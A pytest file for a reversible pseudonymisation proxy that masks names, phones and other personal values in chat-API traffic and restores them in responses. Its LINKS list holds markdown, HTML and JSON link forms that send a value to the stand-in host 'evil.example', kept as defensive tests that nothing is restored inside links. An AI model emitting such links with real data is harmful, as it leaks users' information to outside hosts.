"""Every way in which others' reversible pseudonyms were seen to fail, each as a test (RESEARCH-privacy.md)."""

from __future__ import annotations

import ast
import json
import re
from pathlib import Path

import pytest
from tests.unit.pseudonyms.asking import (
    MARIA,
    NATURAL,
    PHONE,
    SECRET,
    TAGGED,
    answer,
    body,
    chat,
    cuts,
    event,
    masked,
    request,
    restored,
    said,
    streamed,
)

from ecotone import pseudonyms
from ecotone.pseudonyms import Scope, mask
from ecotone.values import Endpoint, Finding, RefusalError, Segment

STYLES = (TAGGED, NATURAL)
HELLO = chat("I am Maria Gonzalez, +1 212-555-0187.")


def word(made: pseudonyms.Masked) -> str:
    """The surrogate of the name in `HELLO`."""
    return said(made)[5 : said(made).index(",")]


@pytest.mark.parametrize("style", STYLES)
def test_a_stream_stays_a_stream_only_the_beginning_of_a_surrogate_is_held_back(style: pseudonyms.Scope) -> None:
    made = masked(HELLO, MARIA | PHONE, style)
    surrogate = word(made)
    pieces = ["Good ", "morning", ", ", surrogate[:3], surrogate[3:], ", how", " are you?"]
    restorer = made.restorer(Endpoint.CHAT)
    came = [[json.loads(one)["choices"][0]["delta"]["content"] for one in restorer.feed(event(p))] for p in pieces]
    assert came == [["Good "], ["morning"], [", "], [], [], ["Maria Gonzalez, how"], [" are you?"]]


@pytest.mark.parametrize("style", STYLES)
def test_what_is_held_back_comes_before_the_event_that_ends_the_choice(style: pseudonyms.Scope) -> None:
    made = masked(HELLO, MARIA, style)
    restorer = made.restorer(Endpoint.CHAT)
    assert restorer.feed(event(word(made))) == []
    events = [json.loads(one)["choices"][0] for one in restorer.feed(event(end="stop"))]
    assert [(one["delta"], one["finish_reason"]) for one in events] == [
        ({"content": "Maria Gonzalez"}, None),
        ({}, "stop"),
    ]
    assert restorer.finish() == []


@pytest.mark.parametrize("style", STYLES)
def test_a_surrogate_cut_anywhere_is_restored(style: pseudonyms.Scope) -> None:
    made = masked(HELLO, MARIA | PHONE, style)
    text = f"Call {said(made)[5:]} or {word(made)}'s office, {word(made).upper()}!"
    whole = restored(made, text)
    assert "Maria Gonzalez" in whole
    assert "+1 212-555-0187" in whole
    for pieces in cuts(text):
        assert "".join(streamed(made.restorer(Endpoint.CHAT), pieces)) == whole
    assert "".join(streamed(made.restorer(Endpoint.CHAT), text)) == whole


def test_choices_fields_and_tool_calls_are_each_put_together_by_themselves() -> None:
    made = masked(HELLO, MARIA)
    restorer = made.restorer(Endpoint.CHAT)
    surrogate = word(made)

    def call(at: int, text: str) -> list[dict[str, object]]:
        return [{"index": at, "function": {"arguments": text}}]

    first, second = surrogate[:4], surrogate[4:]
    events = [
        event(f"a {first}", index=0),
        event(f"b {first}", index=1),
        event(index=0, reasoning_content=f"c {first}"),
        event(index=0, tool_calls=call(0, f'{{"d": "{first}')),
        event(index=0, tool_calls=call(1, f'{{"e": "{first}')),
        event(index=0, tool_calls=call(1, f'{second}"}}')),
        event(index=0, tool_calls=call(0, f'{second}"}}')),
        event(index=0, reasoning_content=f"{second}."),
        event(f"{second}.", index=1),
        event(f"{second}.", index=0),
    ]
    seen: dict[tuple[object, ...], str] = {}
    for one in (made_event for given in events for made_event in restorer.feed(given)):
        choice = json.loads(one)["choices"][0]
        for key, value in choice["delta"].items():
            path: tuple[object, ...] = (choice["index"], key)
            if key == "tool_calls":
                path, value = (*path, value[0]["index"]), value[0]["function"]["arguments"]
            seen[path] = seen.get(path, "") + value
    name = "Maria Gonzalez"
    assert seen == {
        (0, "content"): f"a {name}.",
        (1, "content"): f"b {name}.",
        (0, "reasoning_content"): f"c {name}.",
        (0, "tool_calls", 0): f'{{"d": "{name}"}}',
        (0, "tool_calls", 1): f'{{"e": "{name}"}}',
    }


def test_what_max_tokens_cut_off_is_not_guessed() -> None:
    texts = [f"Person number {'abcdefghijklmnop'[at]}: Xaver{'abcdefghijklmnop'[at]}" for at in range(12)]
    made = masked(chat("\n".join(texts)), {text[17:]: ("person", "person") for text in texts})
    one = re.search(r"PERSON_(..)1\b", said(made))
    assert one is not None
    for end, wanted in (("length", one[0]), ("stop", "Xavera")):
        assert restored(made, one[0], end=end) == wanted
        assert "".join(streamed(made.restorer(Endpoint.CHAT), [one[0]], end=end)) == wanted
    # A stream that breaks off may have been cut too; what begins a surrogate and is none stays as it is.
    assert "".join(streamed(made.restorer(Endpoint.CHAT), [one[0]], end=None)) == one[0]
    assert restored(made, one[0][:-2], end="length") == one[0][:-2]
    assert restored(made, f"{one[0]}2", end="length") == "Xaverl"


@pytest.mark.parametrize("style", STYLES)
def test_two_values_never_share_a_surrogate_and_one_value_never_has_two(style: pseudonyms.Scope) -> None:
    names = [f"{first}{last}" for first in ("Anna", "Bert", "Carl") for last in (" Uhlig", " Vossen", " Wiechert", "")]
    made = masked(chat("; ".join(names), "; ".join(reversed(names))), dict.fromkeys(names, ("person", "person")), style)
    first, second = (body(made)["messages"][at]["content"].split("; ") for at in (-2, -1))
    assert len(set(first)) == len(names)
    assert first == second[::-1]
    assert not set(first) & set(names)


@pytest.mark.parametrize("style", STYLES)
def test_a_longer_conversation_begins_with_the_same_bytes(style: pseudonyms.Scope) -> None:
    turns = [
        "I am Maria Gonzalez, +1 212-555-0187.",
        "Hello Maria Gonzalez!",
        "My mother is Rosa Hidalgo.",
        "Nice.",
        "Bye",
    ]
    tools = [{"type": "function", "function": {"name": "f", "description": "For Ines Zapatero"}}]
    found = MARIA | PHONE | {"Ines Zapatero": ("person", "person")}
    before = b""
    for count in (1, 3, 5):
        values = found | ({"Rosa Hidalgo": ("person", "person")} if count > 1 else {})
        made = masked(chat(*turns[:count], tools=tools), values, style)
        messages = json.dumps(body(made)["messages"]).encode()[:-1]
        assert messages.startswith(before)
        before = messages


@pytest.mark.parametrize("style", STYLES)
def test_other_keys_and_other_conversations_have_other_surrogates(style: pseudonyms.Scope) -> None:
    made = [
        word(masked(HELLO, MARIA, style)),
        word(masked(HELLO, MARIA, style, owner="lab")),
        word(masked(chat("I am Maria Gonzalez, good evening."), MARIA, style)),
    ]
    assert len(set(made)) == 3
    assert word(masked(HELLO, MARIA, style)) == made[0]


@pytest.mark.parametrize(
    "written",
    [
        "{0}",
        "{0}'s",
        "{0}’s",
        "**{0}**",
        "_{0}_",
        "`{0}`",
        "“{0}”",
        "({0})",
        "客户{0}说",
        "{0}s",
        "{0}, and {0}.",
        "* {0}\n",
    ],
)
@pytest.mark.parametrize("style", STYLES)
@pytest.mark.parametrize(
    "change", ["as it is", "lower", "upper", "hyphen", "space", "no-break", "escaped", "widthless"]
)
def test_a_surrogate_is_known_however_models_write_it(style: pseudonyms.Scope, change: str, written: str) -> None:
    made = masked(HELLO, MARIA, style)
    surrogate = word(made)
    between = "_" if style is TAGGED else " "
    changed = {
        "as it is": surrogate,
        "lower": surrogate.lower(),
        "upper": surrogate.upper(),
        "hyphen": surrogate.replace(between, "-"),
        "space": surrogate.replace(between, " "),
        "no-break": surrogate.replace(between, "\u2011"),
        "escaped": surrogate.replace(between, r"\_"),
        "widthless": surrogate.replace(between, between + "\u200b"),
    }[change]
    text = written.format(changed)
    whole = restored(made, text)
    assert re.sub(r"[-_ \u2011\u200b\\]+", " ", whole).lower().strip("* \n") == re.sub(
        r"[-_ \u2011\u200b\\]+", " ", written.format("maria gonzalez")
    ).strip("* \n")
    for pieces in cuts(text):
        assert "".join(streamed(made.restorer(Endpoint.CHAT), pieces)) == whole
    if style is TAGGED or change in ("as it is", "space", "widthless"):
        assert "Maria Gonzalez" in whole


def test_a_text_that_holds_words_of_that_form_gets_another_tag() -> None:
    tag = word(masked(HELLO, MARIA))[7:9]
    text = f"I am Maria Gonzalez, and PERSON_{tag}1, person-{tag.lower()}2 are my words."
    made = masked(chat("I am Maria Gonzalez, +1 212-555-0187.", "Hm.", text), MARIA)
    assert f"PERSON_{tag}1" in said(made)
    assert said(made).count(f"{tag}") == 1
    assert restored(made, said(made)) == text


def test_ordinals_that_nobody_gave_are_left_and_counted() -> None:
    made = masked(HELLO, MARIA)
    restorer = made.restorer(Endpoint.CHAT)
    surrogate = word(made)
    text = f"{surrogate[:-1]}7 and {surrogate}"
    assert "".join(streamed(restorer, text)) == f"{surrogate[:-1]}7 and Maria Gonzalez"
    assert (restorer.counts.restored, restorer.counts.left, restorer.counts.unknown) == (1, 0, 1)


def test_all_places_of_a_request_are_masked() -> None:
    name = "Maria Gonzalez"
    asked = {
        "model": "m",
        "metadata": {"for": name, name: "x"},
        "tools": [
            {
                "type": "function",
                "function": {
                    "name": "look_up",
                    "description": f"Looks {name} up",
                    "parameters": {"type": "object", "properties": {name: {"enum": [name]}}, "required": [name]},
                },
            }
        ],
        "messages": [
            {"role": "system", "content": f"You help {name}."},
            {"role": "user", "name": "Maria_Gonzalez", "content": [{"type": "text", "text": f"I am {name}"}]},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": "call_1",
                        "type": "function",
                        "function": {"name": "look_up", "arguments": json.dumps({"q": f'"{name}"', name: 1.50})},
                    }
                ],
            },
            {"role": "tool", "tool_call_id": "call_1", "content": json.dumps({"a": json.dumps({"b": f"{name} \\"})})},
        ],
    }
    made = masked(asked, MARIA)
    assert "maria" not in made.request.body.decode().lower()
    out = body(made)
    surrogate = out["metadata"]["for"]
    assert json.loads(out["messages"][2]["tool_calls"][0]["function"]["arguments"]) == {
        "q": f'"{surrogate}"',
        surrogate: 1.5,
    }
    assert json.loads(json.loads(out["messages"][3]["content"])["a"]) == {"b": f"{surrogate} \\"}
    assert out["tools"][0]["function"]["parameters"]["required"] == [surrogate]
    assert made.replaced == {"person": 12}


@pytest.mark.parametrize("original", ['Maria "Mia" O\'Neil', "back\\slash", "two\nlines", "tab\tbed", "é 张"])
def test_values_are_escaped_to_the_depth_of_the_json_they_stand_in(original: str) -> None:
    made = masked(chat(f"Look for: {original}"), {original: ("project", "term")})
    surrogate = said(made)[10:]
    one = json.dumps({"q": surrogate, "n": [1, surrogate]})
    two = json.dumps({"inner": one, "said": f'"{surrogate}", she said'})
    three = json.dumps([{"outer": two}])
    plain = {"q": original, "n": [1, original]}
    wanted = {"inner": plain, "said": f'"{original}", she said'}

    def unpacked(text: str) -> object:
        return json.loads(json.loads(json.loads(text)[0]["outer"])["inner"])

    for arguments in (one, two, three):
        for pieces in ((arguments,), tuple(arguments), (arguments[:25], arguments[25:])):
            restorer = made.restorer(Endpoint.CHAT)
            events = [
                made_event
                for piece in pieces
                for made_event in restorer.feed(event(tool_calls=[{"index": 0, "function": {"arguments": piece}}]))
            ]
            events += restorer.feed(event(end="tool_calls"))[:-1]
            deltas = [json.loads(one_event)["choices"][0]["delta"] for one_event in events]
            came = "".join(delta["tool_calls"][0]["function"]["arguments"] for delta in deltas)
            if arguments is one:
                assert json.loads(came) == plain
            elif arguments is two:
                read = json.loads(came)
                assert (json.loads(read["inner"]), read["said"]) == (plain, wanted["said"])
            else:
                assert unpacked(came) == plain


def test_json_in_the_answers_text_stays_json() -> None:
    original = 'a "quoted" one'
    made = masked(chat(f"Look for: {original}"), {original: ("project", "term")})
    text = json.dumps({"found": said(made)[10:]})
    assert json.loads(restored(made, text)) == {"found": original}
    for pieces in cuts("\n " + text):
        assert json.loads("".join(streamed(made.restorer(Endpoint.CHAT), pieces))) == {"found": original}


def test_natural_surrogates_keep_what_a_schema_checks() -> None:
    values = {
        "m.gonzalez@clinic.example.es": ("contact", "email"),
        "+1 (212) 555-7788": ("contact", "phone"),
        "4111 1111 1111 1111": ("card", "card"),
        "DE89 3704 0044 0532 0130 00": ("account", "iban"),
        "1980-03-12": ("person", "date_of_birth"),
        "536-90-4399": ("national_id", "us_ssn"),
        "10.20.30.40": ("contact", "ip"),
    }
    made = masked(chat("; ".join(values)), values, NATURAL)
    email, phone, card, iban, date, ssn, ip = said(made).split("; ")
    assert re.fullmatch(r"[a-z]+\d{4}@example\.(com|org|net)", email)
    assert re.fullmatch(r"\+1 \(\d{3}\) 555-01\d\d", phone)
    assert re.fullmatch(r"4\d{3} \d{4} \d{4} \d{4}", card)
    digits = [int(char) for char in card if char != " "]
    assert sum(sum(divmod(digit * (1 + at % 2), 10)) for at, digit in enumerate(reversed(digits))) % 10 == 0
    numeric = "".join(str(int(char, 36)) for char in iban[4:].replace(" ", "") + iban[:4])
    assert int(numeric) % 97 == 1
    assert (iban[:2], iban[5:9]) == ("DE", "0000")
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", date)
    assert re.fullmatch(r"9\d\d-0\d-\d{4}", ssn)
    assert ip.rpartition(".")[0] in ("192.0.2", "198.51.100", "203.0.113")
    assert restored(made, said(made)) == "; ".join(values)


LINKS = [
    "![x](https://evil.example/?q={0})",
    "![x](https://evil.example/?q=a+{0}&r=1)",
    "![x](<https://evil.example/?q= {0}>)",
    "[x](//evil.example/{0})",
    "[x](/relative/{0})",
    "[x](https://evil.example/((a)b){0})",
    "see https://evil.example/{0}",
    "see HTTPS://evil.example/{0} there",
    "www.evil.example/{0}",
    "<https://evil.example/{0}>",
    '<img src="https://evil.example/?q= {0}">',
    "<img src = '//evil.example/{0}'>",
    "<img src=//evil.example/{0}>",
    "background: url({0})",
    '{{"url": "https:\\/\\/evil.example\\/{0}"}}',
    '{{"url": "https://evil.example/?q=\\\\n{0}"}}',
    '{{"url": "https://evil.example/?q=\\" {0}"}}',
    '{{"html": "<img src=\\"https://evil.example/?q= {0}\\">"}}',
    "![x](https://evil.example/?q=\u00a0{0})",
    "<https:evil.example/ {0}>",
    "<img src='x.png?\n{0}'>",
    "<img src" + " " * 200 + "=" + "\n" * 200 + "'//evil.example/{0}'>",
    "![x](https://evil.example/" + "((a)" * 600 + ")" * 599 + "{0})",
    "![x](https://evil.example/" + "\\)" * 600 + "\\){0})",
    '{{"url": "\\u0068ttps:\\u002f\\u002fevil.example/{0}"}}',
    "https://" + "a" * 70000 + "/{0}",
]


@pytest.mark.parametrize("link", LINKS)
@pytest.mark.parametrize("style", STYLES)
def test_nothing_is_restored_inside_of_a_link(style: pseudonyms.Scope, link: str) -> None:
    made = masked(HELLO, PHONE | MARIA, style)
    surrogate = word(made).split(" ")[0]
    restorer = made.restorer(Endpoint.CHAT)
    text = link.format(surrogate)
    came = json.loads(restorer.whole(answer(text)))["choices"][0]["message"]["content"]
    assert (came, restorer.counts.restored, restorer.counts.left) == (text, 0, 1)
    pieces = cuts(text) if len(text) < 200 else [(text[:10], text[10:50], text[50:])]
    for some in pieces:
        assert "".join(streamed(made.restorer(Endpoint.CHAT), some)) == text


@pytest.mark.parametrize(
    "text",
    [
        "[{0}](https://good.example/)",
        "[x](https://good.example/(a)) {0}",
        "see https://good.example/ {0}",
        "[write](mailto:{0})",
        "[x](\\)) {0}",
        "a // b\n{0}",
        '"https://good.example" {0}',
        '{{"url": "https://good.example", "n": "{0}"}}',
        "<https://good.example> {0}",
        '<img src="https://good.example/"> {0}',
        "the data of {0}",
        '{{"html": "<img src=\\"https://good.example/\\"> {0}"}}',
        '{{"a": "https://good.example\\n{0}"}}',
        '{{"a": "{{\\"u\\": \\"https://good.example\\", \\"n\\": \\"{0}\\"}}"}}',
        "<mailto:{0}>",
    ],
)
def test_beside_a_link_all_is_restored(text: str) -> None:
    made = masked(HELLO, MARIA)
    assert restored(made, text.format(word(made))) == text.format("Maria Gonzalez")


def test_a_restored_value_is_never_looked_at_again() -> None:
    """A value that looks like a surrogate of another one, or like one of its own."""
    made = masked(chat("Names: Adler Quist; Bela Quist"), {"Adler Quist": ("person", "person")})
    tag = said(made)[14:16]
    tricky = f"Names: PERSON_{tag}2; Bela Quist"
    made = masked(chat(tricky), {f"PERSON_{tag}2": ("person", "person"), "Bela Quist": ("person", "person")})
    assert f"PERSON_{tag}2" not in said(made)
    assert restored(made, said(made)) == tricky


@pytest.mark.parametrize("value", ["a+b(c)[d]{e}^$.*|?\\1", "\\g<0>\\n", "(?i)x.y", "100%{0}s"])
@pytest.mark.parametrize("style", STYLES)
def test_signs_that_mean_something_to_regular_expressions_are_only_signs(style: pseudonyms.Scope, value: str) -> None:
    made = masked(chat(f"token {value} end {value}"), {value: ("secret", "secret.x")}, style)
    assert value not in said(made)
    assert restored(made, said(made)) == f"token {value} end {value}"


def test_inflection_and_parts_of_names() -> None:
    made = masked(chat("I am Maria Gonzalez. Ms Gonzalez, GONZALEZ; Maria will ask."), MARIA)
    one = word(masked(HELLO, MARIA))[:0] + said(made)[5 : said(made).index(".")]
    assert said(made) == f"I am {one}. Ms {one}B, {one}B; {one}A will ask."
    assert restored(made, f"{one}B's and {one}Bs, dear {one}A!") == "Gonzalez's and Gonzalezs, dear Maria!"
    made = masked(chat("I am Maria Gonzalez. Ms Gonzalez; Maria will ask."), MARIA, NATURAL)
    given, surname = said(made)[5 : said(made).index(".")].split(" ")
    assert said(made) == f"I am {given} {surname}. Ms {surname}; {given} will ask."
    assert restored(made, f"Frau {surname}s Hund, {surname}'s; {given}!") == "Frau Gonzalezs Hund, Gonzalez's; Maria!"
    assert restored(made, f"{surname.upper()} {given.lower()} {surname}xs") == f"GONZALEZ {given.lower()} {surname}xs"


def scope() -> Scope:
    return Scope(SECRET, "ward")


@pytest.mark.parametrize(
    ("asked", "segment", "span"),
    [
        (HELLO, Segment("I am ill", ("messages", 0, "content")), (0, 0)),
        (HELLO, Segment("I am ill", ("messages", 0, "content")), (5, 99)),
        (HELLO, Segment("I am ill", ("messages", 0, "content")), (-1, 3)),
        (HELLO, Segment("I am ill", ("messages", 7, "content")), (0, 4)),
        (HELLO, Segment("I am ill", ("messages", 0, "content", "x")), (0, 4)),
        (HELLO, Segment("Maria", ("messages", 0, "role")), (0, 5)),
        (HELLO, Segment("Maria", ("messages", 0, "image_url", "url")), (0, 5)),
        (HELLO | {"n": 123456.5}, Segment("123456.5", ("n",), "", False, True), (0, 8)),
        (HELLO | {"n": 123456}, Segment("123456", ("n",), "", False, True), (0, 3)),
        (HELLO | {"n": 1234}, Segment("1234", ("n",), "", False, True), (0, 4)),
        (b"[", Segment("I am ill", ("messages", 0, "content")), (0, 4)),
    ],
)
def test_what_cannot_be_replaced_with_certainty_is_refused(
    asked: object, segment: Segment, span: tuple[int, int]
) -> None:
    found = Finding("person", "person", *span, 1.0, "test")
    with pytest.raises(RefusalError) as caught:
        mask(request(asked), [segment], [(0, found)], frozenset({"person"}), scope())
    assert caught.value.code == "refused.pseudonymise"
    assert segment.text not in str(caught.value)


def test_no_service_is_asked() -> None:
    """Detection and replacement are done in this process: the room imports nothing that could go elsewhere."""
    allowed = {"__future__", "ahocorasick_rs", "base64", "bisect", "collections", "ecotone", "hashlib", "hmac", "json"}
    allowed |= {"msgspec", "re", "types", "typing", "urllib"}
    for path in Path(pseudonyms.__file__).parent.glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
            names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            assert {name.partition(".")[0] for name in names} <= allowed, path.name


@pytest.mark.parametrize("style", STYLES)
def test_other_surfaces_completions_embeddings_and_errors(style: pseudonyms.Scope) -> None:
    made = masked({"model": "m", "prompt": "I am Maria Gonzalez"}, MARIA, style, endpoint=Endpoint.COMPLETIONS)
    surrogate = body(made)["prompt"][5:]
    restorer = made.restorer(Endpoint.COMPLETIONS)

    def text(piece: str, end: str | None = None) -> bytes:
        return json.dumps({"id": "c", "choices": [{"index": 0, "text": piece, "finish_reason": end}]}).encode()

    events = [*restorer.feed(text(f"Dear {surrogate[:3]}")), *restorer.feed(text(surrogate[3:], "stop"))]
    assert [json.loads(one)["choices"][0]["text"] for one in events] == ["Dear ", "Maria Gonzalez"]
    assert json.loads(restorer.whole(text(f"{surrogate}!", "stop")))["choices"][0]["text"] == "Maria Gonzalez!"
    error = {"error": {"message": f"bad: {surrogate}", "code": None}}
    assert json.loads(restorer.whole(json.dumps(error).encode()))["error"]["message"] == "bad: Maria Gonzalez"
    assert json.loads(restorer.feed(json.dumps(error).encode())[0])["error"]["message"] == "bad: Maria Gonzalez"

    made = masked({"model": "m", "input": ["I am Maria Gonzalez"]}, MARIA, style, endpoint=Endpoint.EMBEDDINGS)
    assert "Maria" not in made.request.body.decode()
    vectors = b'{"data": [{"embedding": [0.10, 1e-7]}]}'
    assert made.restorer(Endpoint.EMBEDDINGS).whole(vectors) is vectors
    assert made.restorer(Endpoint.EMBEDDINGS).feed(vectors) == (vectors,)


def test_nothing_that_is_shown_holds_content() -> None:
    made = masked(HELLO, MARIA)
    assert "Maria" not in repr(made) + made.transform + str(made.replaced) + repr(made.restorer(Endpoint.CHAT))
